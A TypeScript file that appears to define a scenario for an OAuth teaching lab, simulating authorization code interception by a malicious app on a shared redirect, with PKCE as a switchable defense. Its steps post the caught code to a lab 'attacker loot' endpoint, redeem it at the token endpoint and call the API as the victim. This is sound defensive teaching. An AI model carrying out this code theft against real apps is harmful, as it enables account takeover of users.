import { lootForm } from '../../../lib/attacks/loot-form';
import type { AttackScenario } from '../../../lib/attacks/types';
import { CALLBACK_PATH, RFC } from '../../walkthrough/common-steps';
import { labCodeRequest } from '../lab-code-form';
import { authorizationRequest } from '../../walkthrough/builders/authorization-request';
import { pkceSecrets } from '../../walkthrough/secrets';
import {
  attackerCallsApi,
  attackerRedeemsCode,
  attackerRole,
  HELD,
  isOn,
  observed,
  refusalObserved,
} from '../common-steps';
import { appWithoutPkce } from './clients';
import { authorizationResponseStep } from '../../walkthrough/builders/authorization-response';
import { rfcSection } from '../../../lib/walkthrough/rfc';

const PKCE = 'defense_pkce';
const CLIENT = appWithoutPkce.client_id;
const PKCE_RFC = rfcSection(9700, '2.1.1');

/** RFC 7636 §1: a malicious app on the same redirect catches the code and redeems it first. */
export const authorizationCodeInterception: AttackScenario = {
  slug: 'authorization-code-interception',
  name: 'Authorization code interception',
  attack: 'A malicious app registered on the same redirect catches the code and redeems it.',
  clientId: CLIENT,
  clientType: 'public',
  clients: [appWithoutPkce],
  roles: [attackerRole],
  signsIn: 'alice',
  summary:
    'A native app receives its authorization response on a custom scheme or a loopback port, which another app on the device can register too. When alice signs in, the operating system hands the code to the malicious app instead. Without PKCE the code alone is enough: the malicious app redeems it and calls the API as alice. With PKCE the code is bound to a code_verifier only the real app holds.',
  defaults: { [PKCE]: 'off' },
  defenses: [
    {
      param: PKCE,
      label: 'Defense: PKCE',
      does: 'The app makes a random code_verifier and sends only its S256 hash, code_challenge, with the authorization request. The server binds the code to it and redeems the code only for the verifier: a caught code is useless to anyone else.',
      rfc: PKCE_RFC,
    },
  ],
  secrets: pkceSecrets,
  // Without the defense the app makes no PKCE pair at all: nothing binds the code, and it holds no verifier.
  startValues: (secrets, params) => {
    const pkce = params[PKCE] === 'on';
    return Object.fromEntries(Object.entries(secrets).filter(([name]) => pkce || !name.startsWith('code_')));
  },
  serverSide: {
    error:
      'the token endpoint answers 400 invalid_grant “grant request is invalid”; the reason, kept in oidc-provider’s error detail, is “code_verifier must be provided”',
    why: 'The code carries the code_challenge of its authorization request. At the token endpoint oidc-provider hashes the code_verifier sent and compares; a request without one, or with the wrong one, is refused before the code is used. This lab client registers with pkce.required returning false, so without the defense the server accepts a request without a challenge.',
  },
  incident: {
    text: '2015: RFC 7636 was written after codes were seen caught by malicious apps registered for the same custom URI scheme on Android and iOS; RFC 9700 now asks every client to use it.',
    href: 'https://www.rfc-editor.org/rfc/rfc7636#section-1',
    source: 'RFC 7636 §1',
  },
  steps: [
    {
      id: 'authorization-request',
      title: 'The app sends alice to sign in',
      explanation:
        'The app opens the authorization request in the browser. With the defense on it adds code_challenge (S256); without it, nothing binds the coming code to this app. alice signs in and allows access.',
      rfc: RFC.authorizationRequest,
      from: 'resource-owner',
      to: 'authorization-server',
      channel: 'front',
      action: (context) =>
        authorizationRequest(
          labCodeRequest(context, CLIENT, {
            scope: 'openid read',
            state: context.values.state,
            ...(isOn(context, PKCE)
              ? { code_challenge: context.values.code_challenge, code_challenge_method: 'S256' }
              : {}),
          }),
        ),
    },
    authorizationResponseStep({
      title: 'The code comes back on the redirect',
      explanation:
        'The server redirects to the app’s redirect URI with the code. On a phone, any app that registered the same scheme may be the one that opens it.',
    }),
    {
      id: 'intercept',
      title: 'The malicious app catches the code',
      explanation:
        'The malicious app registered on the same redirect receives the code and sends it to the attacker’s server. The lab plays the interception by posting the code there.',
      rfc: PKCE_RFC,
      from: 'client',
      to: 'attacker',
      channel: 'back',
      action: ({ values }) => ({
        kind: 'send',
        via: 'browser',
        request: {
          method: 'POST',
          path: '/api/attacker/loot',
          form: lootForm('code', values.code ?? '', CLIENT),
        },
      }),
      outcome: (_context, result) => observed('intercept', result),
    },
    attackerRedeemsCode({
      title: 'The attacker redeems the caught code',
      explanation:
        'The attacker sends the code to the token endpoint with the app’s client_id and redirect URI, both public. It has no code_verifier: only the real app made one.',
      path: '/api/attacker/redeem-code',
      sends: ({ origin, values }) => ({
        code: values.code ?? HELD('the caught code'),
        redirect_uri: `${origin}${CALLBACK_PATH}`,
        client_id: CLIENT,
      }),
    }),
    attackerCallsApi(
      'With the access token its redemption got, if any, the attacker asks the API whose account it is.',
    ),
  ],
  handOff: { step: 'intercept', receivedAt: '/api/attacker/loot' },
  verdict: ({ values }) => {
    if (values.api_status === undefined) return undefined;
    if (values.api_status === '200')
      return {
        outcome: 'succeeded',
        proof: `The attacker redeemed the caught code without any code_verifier, called GET /api/v1/accounts/verify_credentials and was answered with @${values.api_acct ?? '?'}’s account.`,
      };
    return {
      outcome: 'blocked',
      by: 'the authorization server (PKCE: the code is bound to a code_challenge)',
      error: refusalObserved(values, 'redeem'),
      detail: 'The attacker holds a code it cannot redeem, and no access token.',
    };
  },
};
